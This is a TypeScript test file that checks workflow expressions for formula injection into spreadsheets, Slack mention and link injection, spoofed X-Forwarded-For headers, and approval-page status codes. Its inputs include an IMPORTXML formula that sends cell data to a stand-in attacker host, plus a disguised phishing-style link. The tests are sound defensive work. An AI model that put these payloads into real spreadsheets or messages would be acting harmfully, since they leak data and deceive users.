import { runInNewContext } from 'node:vm';
import { readWorkflows } from '../../../sandbox/launcher/workflowImport';
import { visitor } from '../../../workflows/pages/publicRequest';

/** What expressions of workflows make of values that were written to mean something elsewhere: in a spreadsheet, in Slack, in a header. */

const workflows = readWorkflows();

function parameterOf(workflow: string, node: string, name: string): string {
	const found = workflows.find(({ workflow: { id } }) => id === workflow)?.workflow.nodes.find((one) => one.name === node);
	const value = (found?.parameters as Record<string, unknown> | undefined)?.[name];
	if (typeof value !== 'string') throw new Error(`${workflow} has no ${name} in "${node}".`);
	return value;
}

/** As n8n does: the JavaScript between the braces, with the item and the other nodes at hand. */
const evaluated = (expression: string, json: unknown, nodes: Record<string, unknown> = {}): unknown =>
	runInNewContext(`(${expression.replace(/^=\{\{|\}\}$/g, '')})`, { $json: json, $: (name: string) => ({ first: () => ({ json: nodes[name] }), isExecuted: true }) });

it.each(['=IMPORTXML("https://evil.example?"&A1,"//a")', '+1-2', '-1', '@SUM(1)', '\t=1', '=HYPERLINK("https://evil.example")'])('%s stays a text in the spreadsheet: no formula, no number', (value) => {
	const sheets = [{ id: 7, title: 'Leads', heads: [0], rows: [['Name'], [value]] }];
	const body = String(evaluated(parameterOf('comms-dashboard', 'Fill the tabs', 'jsonBody'), { sheets: [] }, { 'Draw the tabs': { report: { sheets } } }));
	expect(JSON.parse(body)).toMatchObject({ requests: [expect.anything(), { updateCells: { rows: [expect.anything(), { values: [{ userEnteredValue: { stringValue: value } }] }] } }] });
	expect(body).not.toMatch(/formulaValue|USER_ENTERED/);
});

it.each(['<!channel> look', '<!here|now>', '<@U012345>', '<https://evil.example|your invoice>', '& < >'])('%s tells nobody in Slack and links nowhere', (value) => {
	const message = { to: 'C012345', subject: value, text: value };
	const body = JSON.stringify(evaluated(parameterOf('comms-send-message', 'Post to Slack', 'jsonBody'), { id: 'm', message }, { Settings: {} }));
	expect(body).not.toMatch(/[<>]/);
	expect(body).toContain(value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'));
});

describe('who is counted as a visitor', () => {
	const counted = (trustedProxies: unknown, forwarded: unknown) => evaluated(visitor, {}, { Settings: { trustedProxies, headers: { 'x-forwarded-for': forwarded } } });

	it.each([[0], [undefined], [''], ['none'], [-1], [NaN], [null]])('with %p proxies of the operator nobody by what they say of themselves', (proxies) => {
		expect(counted(proxies, '203.0.113.1, 198.51.100.7')).toBe('');
	});

	it('with one or more the address that the outermost of them saw, whatever was put before it', () => {
		expect([counted(1, 'made-up, 203.0.113.1'), counted('2', 'made-up, 203.0.113.1, 10.0.0.5'), counted(1, undefined), counted(1, 'x'.repeat(500))]).toEqual(['203.0.113.1', '203.0.113.1', '', 'x'.repeat(100)]);
	});
});

it('the approval page tells too many guesses from a link that is not known, and neither tells more', () => {
	const looked = (json: unknown) => evaluated(parameterOf('comms-approve-draft', 'Link not known', 'jsonOutput'), json);
	const pressed = (json: unknown) => evaluated(parameterOf('comms-approve-draft', 'Say what happened', 'jsonOutput'), json, { 'Correct the labels': {} });
	for (const answer of [looked, pressed]) {
		expect(answer({ allowed: false, outcome: null, text: null })).toMatchObject({ statusCode: 429, variables: { title: 'Too many requests', kind: 'bad' } });
		expect(answer({ allowed: true, outcome: null, text: null })).toMatchObject({ statusCode: 404, variables: { title: 'This link is not known', kind: 'bad' } });
	}
	expect(pressed({ allowed: true, outcome: 'approved', text: 'It is on its way.' })).toMatchObject({ statusCode: 200, variables: { title: 'Approved', message: 'It is on its way.' } });
	expect(pressed({ allowed: true, outcome: 'stale', text: 'There is a newer mail.' })).toMatchObject({ statusCode: 409, variables: { title: 'Nothing was sent' } });
});
